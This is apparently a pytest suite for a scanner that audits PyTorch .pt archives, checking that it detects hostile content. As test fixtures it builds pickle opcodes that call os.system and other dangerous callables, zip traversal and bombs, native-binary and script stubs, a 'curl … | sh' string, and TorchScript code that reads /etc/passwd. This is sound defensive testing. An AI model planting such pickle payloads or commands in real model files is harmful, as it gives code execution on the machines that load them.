"""Hostile archives, one small generator a class, several variants each."""

from __future__ import annotations

import gzip
import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from auditor.findings import Severity
from tests.artifacts.test_torch_archive import PROBLEMS
from tests.artifacts.torch_files import data_pickle, members, write
from tests.checks.file.torch_scan import scan

SHARED = Path(os.environ.get("AUDITOR_SHARED", "/work/shared"))


def rules_of(path: Path, least: Severity = Severity.MEDIUM) -> set[str]:
    """Ids of the rules with a finding at `least` or above."""
    return {f.rule for f in scan(path) if f.severity >= least}


# pickles


def _reduce(module: str, name: str, argument: str = "id") -> bytes:
    text = argument.encode()
    call = f"c{module}\n{name}\n".encode() + b"(X" + struct.pack("<L", len(text)) + text + b"tR"
    return b"\x80\x02" + call + b"."


def _stack_global(module: str, name: str) -> bytes:
    out = b"\x80\x04"
    for word in (module, name):
        out += b"\x8c" + bytes([len(word)]) + word.encode()
    return out + b"\x93\x8c\x02id\x85R."


CALLS = [
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("subprocess", "Popen"),
    ("subprocess", "check_output"), ("builtins", "eval"), ("builtins", "exec"),
    ("__builtin__", "execfile"), ("builtins", "getattr"), ("builtins", "open"),
    ("builtins", "__import__"), ("importlib", "import_module"), ("runpy", "_run_code"),
    ("pty", "spawn"), ("socket", "create_connection"), ("webbrowser", "open"),
    ("shutil", "rmtree"), ("ctypes", "CDLL"), ("pickle", "loads"), ("torch", "load"),
    ("torch.hub", "load"), ("torch.jit", "load"), ("torch.utils.cpp_extension", "load"),
    ("torch.serialization", "load"), ("torch.ops", "load_library"), ("functools", "partial"),
    ("operator", "methodcaller"), ("code", "interact"), ("timeit", "timeit"),
    ("numpy.testing._private.utils", "runstring"), ("numpy", "load"), ("pip", "main"),
    ("asyncio.unix_events", "_UnixSubprocessTransport"), ("urllib.request", "urlopen"),
    ("multiprocessing.util", "spawnv_passfds"), ("types", "FunctionType"), ("marshal", "loads"),
    ("sys", "exit"), ("pdb", "run"), ("bdb", "Bdb"), ("cProfile", "run"),
    ("logging", "FileHandler"),
]  # fmt: skip


@pytest.mark.parametrize("make", [_reduce, _stack_global])
@pytest.mark.parametrize("call", CALLS, ids=".".join)
def test_calls_in_data_pkl(
    call: tuple[str, str], make: Callable[..., bytes], tmp_path: Path
) -> None:
    path = write(tmp_path / "m.pt", members(**{"data.pkl": make(*call)}))
    hits = [f for f in scan(path) if f.rule == "torch.pickle.code"]
    assert hits and hits[0].severity == Severity.CRITICAL and hits[0].blocks_run
    assert hits[0].location == "data.pkl" and call[1] in hits[0].evidence


HIDDEN = {
    "inst": b"(X\x02\x00\x00\x00idios\nsystem\n.",
    "obj": b"(cos\nsystem\nX\x02\x00\x00\x00ido.",
    "newobj": b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85\x81.",
    "build": b"\x80\x02cos\n_wrap_close\n)\x81}b.",
    "memo": b"\x80\x02cos\nsystem\nq\x050h\x05X\x02\x00\x00\x00id\x85R.",
    "computed name": b"\x80\x04N\x8c\x06system\x93\x8c\x02id\x85R.",
    "extension": b"\x80\x02\x82\x01)R.",
    "then broken": b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R\xff\xff",
    "before the model": b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R0" + data_pickle()[2:],
    "inside the model": data_pickle()[:-3] + b"cos\nsystem\nX\x02\x00\x00\x00id\x85R0ub.",
    "import only": b"\x80\x02cos\nsystem\n.",
    "foreign class": b"\x80\x02cmypackage.layers\nCustom\n)\x81.",
}


@pytest.mark.parametrize("case", HIDDEN)
def test_hidden_pickle_constructs(case: str, tmp_path: Path) -> None:
    path = write(tmp_path / "m.pt", members(**{"data.pkl": HIDDEN[case]}))
    hits = [f for f in scan(path) if f.rule in ("torch.pickle.code", "torch.pickle.import")]
    assert hits and all(f.severity >= Severity.HIGH and f.blocks_run for f in hits)


@pytest.mark.parametrize(
    "member",
    ["constants.pkl", "traced_inputs.pkl", "code/__torch__.py.debug_pkl", "data/7", "extra/notes",
     "attributes.pkl", "extra/model.bin", ".data/serialization_id"],
)  # fmt: skip
@pytest.mark.parametrize("protocol", [2, 4])
def test_pickles_in_any_member(member: str, protocol: int, tmp_path: Path) -> None:
    payload = _reduce("os", "system") if protocol == 2 else _stack_global("os", "system")
    path = write(tmp_path / "m.pt", members(**{member: payload}))
    assert "torch.pickle.code" in rules_of(path, Severity.CRITICAL)


def test_pickle_in_a_nested_archive(tmp_path: Path) -> None:
    inner = write(tmp_path / "inner.pt", {"data.pkl": _reduce("os", "system")}).read_bytes()
    path = write(tmp_path / "m.pt", members(**{"extra/inner.pt": inner}))
    assert {"torch.pickle.code", "torch.payload.archive"} <= rules_of(path)


def test_bytes_after_a_pickle_and_lying_tensors(tmp_path: Path) -> None:
    first = write(tmp_path / "a.pt", members(**{"data.pkl": data_pickle() + b"\0" * 50}))
    assert rules_of(first) == {"torch.pickle.trailing"}
    second = write(tmp_path / "b.pt", members(**{"data.pkl": data_pickle((10, 4096))}))
    assert rules_of(second) == {"torch.tensor.bounds"}


# zip structure

STRUCTURE = {
    "traversal": "torch.zip.path", "absolute": "torch.zip.path", "symlink": "torch.zip.path",
    "duplicate": "torch.zip.duplicate", "local": "torch.zip.conflict",
    "overlap": "torch.zip.conflict", "bounds": "torch.zip.conflict", "name": "torch.zip.conflict",
    "trailing": "torch.zip.hidden", "prepended": None, "gap": "torch.zip.hidden",
    "encrypted": "torch.zip.sealed", "method": "torch.zip.sealed", "outside": None,
}  # fmt: skip


@pytest.mark.parametrize("case", PROBLEMS)
def test_zip_structure(case: str, tmp_path: Path) -> None:
    path = tmp_path / "m.pt"
    path.write_bytes(PROBLEMS[case])
    expected = STRUCTURE[case.partition(" ")[0]]
    if expected is not None:
        assert expected in rules_of(path)


@pytest.mark.parametrize("member", ["model.json", ".data/extern_modules"])
def test_legacy_archives(member: str, tmp_path: Path) -> None:
    path = write(tmp_path / "m.pt", {member: b"{}", "version": b"1"})
    assert rules_of(path) == {"torch.legacy"}


@pytest.mark.parametrize("count", [1, 3])
def test_zip_bomb(count: int, tmp_path: Path) -> None:
    path = tmp_path / "m.pt"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members().items():
            archive.writestr(f"m/{name}", data)
        for index in range(count):
            archive.writestr(f"m/data/{index + 5}", bytes(48 << 20))
    assert "torch.zip.bomb" in rules_of(path, Severity.HIGH)


# members by content

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(100)
PE = b"MZ" + bytes(58) + struct.pack("<L", 128) + bytes(64) + b"PE\0\0" + bytes(100)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(100)


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "x")
    return buffer.getvalue()


PAYLOADS = {
    "elf": (ELF, "torch.payload.native"),
    "elf inside weights": (bytes(4001) + ELF, "torch.payload.native"),
    "pe": (PE, "torch.payload.native"),
    "mach-o": (MACHO, "torch.payload.native"),
    "wasm": (b"\0asm\1\0\0\0" + bytes(50), "torch.payload.native"),
    "java": (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(50), "torch.payload.native"),
    "shell": (b"#!/bin/sh\nid\n", "torch.payload.script"),
    "env": (b"#!/usr/bin/env python3\n", "torch.payload.script"),
    "python": (b"import os\nos.system('id')\n", "torch.payload.script"),
    "powershell": (b"powershell -enc AAAA", "torch.payload.script"),
    "gzip": (gzip.compress(b"x" * 99), "torch.payload.archive"),
    "zip": (_zip_bytes(), "torch.payload.archive"),
    "tar": (bytes(257) + b"ustar\x0000" + bytes(300), "torch.payload.archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(50), "torch.payload.archive"),
    "pickle": (pickle.dumps({"a": [1, 2, 3]}, 2), "torch.payload.pickle"),
}


@pytest.mark.parametrize("member", ["data/5", "extra/readme.txt"])
@pytest.mark.parametrize("case", PAYLOADS)
def test_members_are_judged_by_content(case: str, member: str, tmp_path: Path) -> None:
    data, rule = PAYLOADS[case]
    assert rule in rules_of(write(tmp_path / "m.pt", members(**{member: data})))


@pytest.mark.parametrize("name", ["extra/setup.sh", "extra/run.py", "extra/a.ps1", "extra/b.bat"])
def test_scripts_by_name(name: str, tmp_path: Path) -> None:
    path = write(tmp_path / "m.pt", members(**{name: b"echo hello"}))
    assert "torch.payload.script" in rules_of(path)


# code

CODE: dict[str, tuple[str, str]] = {
    "save": ('torch.save(y, "/tmp/x")', "code.files"),
    "save by namespace": ('ops.aten.save(y, "/tmp/x")', "code.files"),
    "save by alias": ('f = torch.save\nf(y, "/tmp/x")', "code.files"),
    "save of a built name": ('n = torch.add("/tm", "p/x")\ntorch.save(y, n)', "code.files"),
    "save overload": ('ops.aten.save.default(y, "/tmp/x")', "code.files"),
    "from_file": ('y = torch.from_file("/etc/passwd", False, 10)', "code.files"),
    "from_file ns": ('y = ops.aten.from_file("/etc/passwd", False, 10)', "code.files"),
    "load": ('y = torch.load("/tmp/x")', "code.files"),
    "read_file": ('y = ops.image.read_file("/etc/passwd")', "code.files"),
    "write_file": ('ops.image.write_file("/tmp/x", y)', "code.files"),
    "rpc": ('y = ops.prim.rpc_async("w", f, (y,))', "code.network"),
    "c10d": ("y = ops.c10d.send_([y], 0, 0)", "code.network"),
    "functional collective": ('y = ops._c10d_functional.all_reduce(y, "sum", "0")', "code.network"),
    "python op": ("y = ops.prim.PythonOp(y)", "code.network"),
    "custom": ("y = ops.evil.run(y)", "code.custom-operator"),
    "custom alias": ("f = ops.my_lib.secret\ny = f(y)", "code.custom-operator"),
    "vendor": ("y = ops.tensorrt.execute_engine([y], y)", "code.custom-operator"),
    "set_": ("torch.set_(y, x)", "code.memory"),
    "fork": ("f = fork(__torch__.Net, x)", "code.fork"),
    "secret path": ('s = "/etc/shadow"', "code.strings"),
    "shell": ('s = "curl -s http://a.b/c | sh"', "code.strings"),
    "encoded program": ('s = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA"', "code.strings"),
    "endless while": ("while True:\n  y = torch.add(y, 1)", "code.loop-bomb"),
    "endless flag": ("go = True\nwhile go:\n  y = torch.add(y, 1)", "code.loop-bomb"),
    "long for": ("for i in range(9223372036854775807):\n  y = torch.add(y, 1)", "code.loop-bomb"),
    "computed trips": (
        "n = torch.pow(10, 12)\nfor i in range(n):\n  y = torch.add(y, 1)", "code.loop-bomb"),
    "nested loops": (
        "for i in range(100000):\n  for j in range(100000):\n    y = torch.add(y, 1)",
        "code.loop-bomb"),
    "trips of the input": (
        "for i in range(int(torch.mul(torch.sum(x), 1000000000000.))):\n  y = torch.add(y, 1)",
        "code.loop-bomb"),
    "huge zeros": ("z = torch.zeros([100000, 100000, 10])", "code.memory-bomb"),
    "huge by product": ("z = torch.zeros([torch.mul(100000, 1000000)])", "code.memory-bomb"),
    "huge repeat": ("z = torch.repeat(y, [1000000, 1000000])", "code.memory-bomb"),
    "huge arange": ("z = torch.arange(1000000000000)", "code.memory-bomb"),
    "huge eye": ("z = torch.eye(1000000)", "code.memory-bomb"),
    "doubling": ("for i in range(40):\n  y = torch.cat([y, y])", "code.memory-bomb"),
    "deep": ("y = " + "torch.relu(" * 300 + "y" + ")" * 300, "code.unparsed"),
    "no python": ("y = ^evil()(y)", "code.unparsed"),
    "save hidden in no python": ('y = ^f()(y)\ntorch.save(y, "/tmp/x")', "code.files"),
}  # fmt: skip


@pytest.mark.parametrize("case", CODE)
def test_code(case: str, tmp_path: Path) -> None:
    body, rule = CODE[case]
    path = write(tmp_path / "m.pt", members(body))
    hits = [f for f in scan(path) if f.rule == rule and f.severity >= Severity.MEDIUM]
    assert hits and hits[0].location and hits[0].location.startswith("code/__torch__.py")
    if rule in ("code.files", "code.network"):
        assert hits[0].blocks_run and hits[0].severity == Severity.CRITICAL


def _with_method(text: str) -> dict[str, bytes]:
    found = members()
    found["code/__torch__.py"] += text.encode()
    return found


AT_LOAD = {
    "save": ('torch.save(self.weight, "/tmp/x")', "code.files"),
    "loop": ("while True:\n      pass", "code.load"),
    "compute": ("self.weight = torch.conv2d(self.weight, self.weight)", "code.load"),
}


@pytest.mark.parametrize("case", AT_LOAD)
def test_work_at_load(case: str, tmp_path: Path) -> None:
    body, rule = AT_LOAD[case]
    method = f"  def __setstate__(self: __torch__.Net, s: Tensor) -> NoneType:\n    {body}\n"
    assert rule in rules_of(write(tmp_path / "m.pt", _with_method(method)))


def test_code_nobody_calls_is_read_too(tmp_path: Path) -> None:
    helper = b'def f(x: Tensor) -> Tensor:\n  torch.save(x, "/tmp/x")\n  return x\n'
    path = write(tmp_path / "m.pt", members(**{"code/__torch__/helper.py": helper}))
    assert "code.files" in rules_of(path, Severity.CRITICAL)


FIXTURES = {
    "m_ts_save": "code.files",
    "m_ts_datapkl": "torch.pickle.code",
    "m_ts_if": "code.trigger",
}


@pytest.mark.parametrize("name", FIXTURES)
def test_shared_fixtures(name: str) -> None:
    path = SHARED / f"fixtures/torchscript/{name}.pt"
    if not path.exists():
        pytest.skip("the shared test material is not here")
    assert rules_of(path) == {FIXTURES[name]}


@pytest.mark.parametrize("seed", range(60))
def test_mutated_code_and_pickles_never_crash(seed: int, tmp_path: Path) -> None:
    import random

    choice: Any = random.Random(seed)
    files = members("if bool((x[:, :, 0:2] > 0.9).all()):\n  y = torch.relu(y)")
    for name in ("code/__torch__.py", "data.pkl"):
        data = bytearray(files[name])
        for _ in range(choice.randint(0, 6)):
            data[choice.randrange(len(data))] = choice.choice(b"()[]:,.\n \"'=-xyz019\x80")
        files[name] = bytes(data)
    scan(write(tmp_path / "m.pt", files))
